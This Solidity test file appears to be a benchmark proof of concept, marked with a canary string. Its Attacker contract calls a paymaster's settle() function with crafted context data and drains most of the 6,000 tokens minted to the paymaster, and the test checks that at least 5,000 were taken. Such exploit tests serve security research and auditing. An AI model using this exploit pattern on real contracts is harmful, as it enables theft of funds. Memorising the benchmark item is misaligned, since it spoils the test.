// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

interface ISettled {
    function settle(bytes calldata context, uint256 fee) external;
}

contract Attacker {
    function run(ISettled paymaster, uint256 amount) external {
        try paymaster.settle(abi.encode(address(this), amount, 1), 0) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(paymaster), 6_000e6);
    }

    function exploit() public {
        other.run(ISettled(address(paymaster)), 6_000e6);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 5_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(paymaster);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
